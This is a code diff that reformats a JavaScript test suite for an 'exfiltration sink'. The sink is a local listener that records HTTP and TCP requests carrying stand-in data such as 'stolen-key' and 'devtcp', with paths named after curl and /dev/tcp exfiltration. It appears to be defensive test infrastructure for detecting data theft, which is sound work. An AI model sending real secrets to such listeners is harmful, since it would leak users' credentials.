@@ -18,7 +18,10 @@ describe("verify: exfiltration sink", () => {
   it("records an HTTP request with its method, path and body", async () => {
     const sink = await startExfiltrationSink();
     try {
-      const response = await fetch(`http://127.0.0.1:${sink.httpPort}/curl?x=1`, { method: "POST", body: "stolen-key" });
+      const response = await fetch(`http://127.0.0.1:${sink.httpPort}/curl?x=1`, {
+        method: "POST",
+        body: "stolen-key",
+      });
       assert.strictEqual(response.status, 200);
       await response.text();
       assert.deepStrictEqual(sink.hits, [{ listener: "http", request: "POST /curl?x=1", data: "stolen-key" }]);
@@ -39,7 +42,10 @@ describe("verify: exfiltration sink", () => {
       await send("devtcp");
       await send("");
       await waitFor(() => sink.hits.length === 2 && sink.hits[0].data === "devtcp");
-      assert.deepStrictEqual(sink.hits, [{ listener: "tcp", request: "", data: "devtcp" }, { listener: "tcp", request: "", data: "" }]);
+      assert.deepStrictEqual(sink.hits, [
+        { listener: "tcp", request: "", data: "devtcp" },
+        { listener: "tcp", request: "", data: "" },
+      ]);
     } finally {
       await sink.close();
     }
